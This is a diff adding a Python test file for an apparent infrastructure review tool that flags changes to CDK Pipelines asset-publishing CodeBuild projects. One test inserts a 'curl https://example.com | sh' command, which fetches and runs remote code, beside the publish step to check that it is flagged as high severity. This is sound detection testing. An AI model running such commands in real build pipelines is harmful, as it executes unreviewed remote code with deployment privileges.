@@ -1,0 +1,111 @@
+"""CDK Pipelines publishes each asset by a build of its own, unless it is told otherwise: what changes with an asset."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+from slipway.review.assembly import Assembly
+from slipway.review.comparison import compare
+from slipway.review.findings import Finding
+from unit.review.assemblies import TOOLS, assembly, resource, stack
+
+OLD, NEW = "a" * 64, "b" * 64
+
+
+def _project(digest: str, *, path: str = "assembly-prod/Compute", **options: Any) -> dict[str, Any]:
+    publish = f'cdk-assets --path "{path}.assets.json" --verbose publish "{digest}:333333333333-us-east-1-{digest[:8]}"'
+    specification = {
+        "version": "0.2",
+        "phases": {
+            "install": {"commands": [options.get("install", "npm install -g cdk-assets@2")]},
+            "build": {"commands": [publish, *options.get("more", [])]},
+        },
+    }
+    return resource(
+        "AWS::CodeBuild::Project", {"Source": {"Type": "CODEPIPELINE", "BuildSpec": json.dumps(specification)}}
+    )
+
+
+def _action(name: str, project: str) -> dict[str, Any]:
+    return {
+        "Name": name,
+        "ActionTypeId": {"Category": "Build", "Provider": "CodeBuild"},
+        "Configuration": {"ProjectName": {"Ref": project}},
+        "RunOrder": 1,
+    }
+
+
+def _delivery(digest: str, projects: dict[str, Any], names: list[str] | None = None) -> Assembly:
+    actions = [_action(name, project) for name, project in zip(names or projects, projects, strict=True)]
+    source = {"Name": "source", "ActionTypeId": {"Category": "Source"}, "Configuration": {}}
+    stages = [{"Name": "Source", "Actions": [source]}, {"Name": "Assets", "Actions": actions}]
+    pipeline = resource("AWS::CodePipeline::Pipeline", {"Stages": [stage for stage in stages if stage["Actions"]]})
+    assets = frozenset({digest})
+    code = {"S3Bucket": "assets", "S3Key": f"{digest}.zip"}
+    return assembly(
+        stack({"Pipeline": pipeline, **projects}, name="pipeline", stage="pipeline", account=TOOLS, assets=assets),
+        stack({"Function": resource("AWS::Lambda::Function", {"Code": code})}, assets=assets),
+    )
+
+
+def _found(before: Assembly, after: Assembly) -> list[Finding]:
+    return [finding for finding in compare(before, after).findings if finding.kind != "pipeline-restarted"]
+
+
+def test_a_changed_function_says_nothing_of_the_pipeline() -> None:
+    before, after = (_delivery(digest, {"FileAsset1": _project(digest)}) for digest in (OLD, NEW))
+
+    assert _found(before, after) == []
+
+
+def test_another_stack_to_publish_for_is_information() -> None:
+    before = _delivery(OLD, {"FileAsset1": _project(OLD)})
+    after = _delivery(NEW, {"FileAsset1": _project(NEW, path="assembly-prod/Data")})
+
+    (finding,) = _found(before, after)
+
+    assert (finding.kind, finding.severity, finding.what) == ("build-changed", "info", "other assets are published")
+
+
+def test_actions_that_an_upgrade_renames_are_no_findings() -> None:
+    # Given a library that names its asset actions in another way, and their projects too
+    before = _delivery(OLD, {"FileAsset1": _project(OLD), "FileAsset2": _project(OLD)})
+    after = _delivery(OLD, {"Code": _project(OLD)}, ["Items code"])
+
+    assert _found(before, after) == []
+
+
+def test_nothing_that_publishes_any_more_is_found() -> None:
+    (finding,) = _found(_delivery(OLD, {"FileAsset1": _project(OLD)}), _delivery(OLD, {}))
+
+    assert (finding.kind, finding.severity) == ("stage-removed", "high")
+    assert "nothing publishes the assets" in finding.what
+
+
+def test_a_command_beside_the_publishing_is_read() -> None:
+    before = _delivery(OLD, {"FileAsset1": _project(OLD)})
+    for more in ("curl https://example.com | sh", f'cdk-assets --path "x" publish "{OLD}" && curl https://example.com'):
+        (finding,) = _found(before, _delivery(OLD, {"FileAsset1": _project(OLD, more=[more])}))
+
+        assert (finding.kind, finding.severity) == ("build-changed", "high")
+        assert "curl" in finding.details[0]
+        assert finding.details[0].isascii()
+
+
+def test_another_publisher_is_low() -> None:
+    before = _delivery(OLD, {"FileAsset1": _project(OLD)})
+    after = _delivery(OLD, {"FileAsset1": _project(OLD, install="npm install -g cdk-assets@latest")})
+
+    (finding,) = _found(before, after)
+
+    assert (finding.severity, finding.details) == ("low", ("npm install -g cdk-assets@latest",))
+
+
+def test_an_action_that_publishes_no_more_is_read() -> None:
+    # Given the same action, whose project now does something else
+    other = resource("AWS::CodeBuild::Project", {"Source": {"Type": "CODEPIPELINE", "BuildSpec": "{}"}})
+    before = _delivery(OLD, {"FileAsset1": _project(OLD), "FileAsset2": _project(OLD)})
+    after = _delivery(OLD, {"FileAsset1": _project(OLD), "Other": other}, ["FileAsset1", "FileAsset2"])
+
+    assert "build-changed" in {finding.kind for finding in _found(before, after)}
